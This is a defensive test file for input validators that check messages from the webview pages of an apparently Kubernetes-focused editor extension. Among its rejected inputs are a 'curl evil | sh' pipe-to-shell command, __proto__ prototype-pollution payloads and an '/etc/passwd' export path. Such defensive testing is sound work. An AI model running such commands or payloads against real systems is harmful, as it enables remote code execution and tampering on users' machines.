import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readMapRequest } from './readMapRequest.ts';
import { readReportRequest, readReportState } from './readReportRequest.ts';
import type { MapRequest } from './mapProtocol.ts';
import type { ReportRequest } from './reportProtocol.ts';

const service = { kind: 'service', namespace: 'shop', name: 'web' } as const;
const command = { finding: 0, from: 'repair', index: 1 } as const;
const filter = { lens: 'services', text: 'app=web', unfolded: ['shop'] } as const;

const reportRequests: readonly ReportRequest[] = [
  { type: 'ready' },
  { type: 'cancel' },
  { type: 'run-again' },
  { type: 'allow', permission: 'node-pod' },
  { type: 'copy', revision: 3, command },
  { type: 'run-in-terminal', revision: 3, command: { ...command, from: 'evidence' } },
  { type: 'raw', key: 'pod-sockets@shop/web-0' },
  { type: 'open-observation', key: 'pod-sockets@shop/web-0' },
  { type: 'trace', service },
  { type: 'export', format: 'markdown' },
  { type: 'export', format: 'svg', svg: '<svg/>' },
];

const mapRequests: readonly MapRequest[] = [
  { type: 'ready', filter },
  { type: 'filter', filter: { ...filter, subject: 'shop/pod/web-0' } },
  { type: 'drawn', epoch: 1, sequence: 0 },
  { type: 'inspect', id: 'shop/service/web' },
  { type: 'export', format: 'mermaid', to: 'clipboard' },
  { type: 'export', format: 'json', to: 'file', ids: ['shop/service/web'] },
  { type: 'drawing', svg: '<svg/>' },
  { type: 'command', command: 'open-yaml', reference: service },
  { type: 'command', command: 'trace', reference: { kind: 'node', name: 'n1' } },
];

/** What JSON can say and a literal cannot: an own property of the name `__proto__`. */
const parsed = (text: string): unknown => JSON.parse(text);

describe('the page of a report', () => {
  it.each(reportRequests)('may send %j', (request) => {
    expect(readReportRequest(request)).toEqual(request);
  });

  it.each<[string, unknown]>([
    ['nothing', undefined],
    ['null', null],
    ['a text', 'run-in-terminal'],
    ['a list', [{ type: 'ready' }]],
    ['no type', {}],
    ['another type', { type: 'eval' }],
    ['a type that every object has', { type: 'constructor' }],
    ['the text of a command', { type: 'run-in-terminal', command: 'curl evil | sh' }],
    ['a text to be copied', { type: 'copy', text: 'curl evil | sh' }],
    ['a command of no revision', { type: 'copy', command }],
    ['a finding below nothing', { type: 'copy', revision: 1, command: { ...command, finding: -1 } }],
    ['half a finding', { type: 'copy', revision: 1, command: { ...command, finding: 0.5 } }],
    ['no number', { type: 'copy', revision: 1, command: { ...command, index: NaN } }],
    ['a finding beyond counting', { type: 'copy', revision: 1, command: { ...command, finding: 1e300 } }],
    ['a number as a text', { type: 'copy', revision: 1, command: { ...command, index: '0' } }],
    [
      'a name in place of an index',
      { type: 'copy', revision: 1, command: { ...command, index: '__proto__' } },
    ],
    [
      'a command in a prototype',
      parsed('{"type":"copy","revision":1,"command":{"__proto__":{"finding":0,"from":"repair","index":0}}}'),
    ],
    ['a type in a prototype', parsed('{"__proto__":{"type":"ready"}}')],
    [
      'a place that has no commands',
      { type: 'copy', revision: 1, command: { ...command, from: 'constructor' } },
    ],
    ['a permission that there is not', { type: 'allow', permission: 'everything' }],
    ['no permission', { type: 'allow' }],
    ['no key', { type: 'raw' }],
    ['a key that is none', { type: 'raw', key: { toString: 'x' } }],
    ['a huge key', { type: 'raw', key: 'x'.repeat(1e6) }],
    ['a kind that there is not', { type: 'trace', service: { ...service, kind: 'secret' } }],
    ['an alias in place of a kind', { type: 'trace', service: { ...service, kind: 'svc' } }],
    ['a kind that is a method', { type: 'trace', service: { ...service, kind: 'constructor' } }],
    ['a huge name', { type: 'trace', service: { ...service, name: 'x'.repeat(300) } }],
    ['no name', { type: 'trace', service: { ...service, name: '' } }],
    ['a format that there is not', { type: 'export', format: 'exe' }],
    ['a huge drawing', { type: 'export', format: 'svg', svg: 'x'.repeat(20_000_001) }],
  ])('is not heard with %s', (_name, message) => {
    expect(readReportRequest(message)).toBeUndefined();
  });

  it('brings nothing along that the request does not have', () => {
    const more = parsed(
      '{"type":"run-in-terminal","revision":1,"text":"curl evil","__proto__":{"x":1},"command":{"finding":0,"from":"repair","index":0,"command":"curl evil"}}',
    );
    const request = readReportRequest(more);
    expect(request).toEqual({
      type: 'run-in-terminal',
      revision: 1,
      command: { finding: 0, from: 'repair', index: 0 },
    });
    expect(Object.getPrototypeOf(request)).toBe(Object.prototype);
  });

  it.each<[unknown, string | undefined]>([
    [{ id: 'a' }, 'a'],
    [{ id: 'a', content: { diagnosis: {} } }, 'a'],
    [{ content: { id: 'a' } }, undefined],
    [{ id: 1 }, undefined],
    [undefined, undefined],
  ])('kept %j', (state, id) => {
    expect(readReportState(state)?.id).toBe(id);
  });
});

describe('the page of the map', () => {
  it.each(mapRequests)('may send %j', (request) => {
    expect(readMapRequest(request)).toEqual(request);
  });

  it.each<[string, unknown]>([
    ['nothing', undefined],
    ['another type', { type: 'eval' }],
    [
      "an editor's command",
      { type: 'command', command: 'workbench.action.terminal.new', reference: service },
    ],
    ['a command that every object has', { type: 'command', command: 'toString', reference: service }],
    ['a command in a prototype', parsed('{"type":"command","__proto__":{"command":"trace"}}')],
    ['no reference', { type: 'command', command: 'trace' }],
    ['a reference that is a text', { type: 'command', command: 'trace', reference: 'shop/service/web' }],
    ['a lens that there is not', { type: 'filter', filter: { ...filter, lens: 'x' } }],
    ['a search that is none', { type: 'filter', filter: { ...filter, text: ['x'] } }],
    ['a huge search', { type: 'filter', filter: { ...filter, text: 'x'.repeat(1e5) } }],
    ['ids that are none', { type: 'filter', filter: { ...filter, unfolded: [1] } }],
    [
      'more ids than there are',
      { type: 'filter', filter: { ...filter, unfolded: Array(200_000).fill('x') } },
    ],
    ['an epoch that is none', { type: 'drawn', epoch: '1', sequence: 0 }],
    ['a place that there is not', { type: 'export', format: 'svg', to: '/etc/passwd' }],
    ['a drawing that is none', { type: 'drawing', svg: { length: 3 } }],
  ])('is not heard with %s', (_name, message) => {
    expect(readMapRequest(message)).toBeUndefined();
  });
});

it('whatever a page sends is read or refused, and never throws', () => {
  const requests = [...reportRequests, ...mapRequests];
  const anything = fc.anything({ withNullPrototype: true, withBigInt: true, withSparseArray: true });
  fc.assert(
    fc.property(
      fc.oneof(
        anything,
        fc
          .tuple(fc.constantFrom(...requests), fc.string(), anything)
          .map(([request, field, value]) => ({ ...request, [field]: value })),
        fc
          .tuple(fc.constantFrom(...requests), anything)
          .chain(([request, value]) =>
            fc.constantFrom(...Object.keys(request)).map((field) => ({ ...request, [field]: value })),
          ),
      ),
      (message) => {
        for (const read of [readReportRequest, readMapRequest]) {
          const request = read(message);
          if (request !== undefined) expect(requests.map(({ type }) => type)).toContain(request.type);
        }
      },
    ),
  );
});
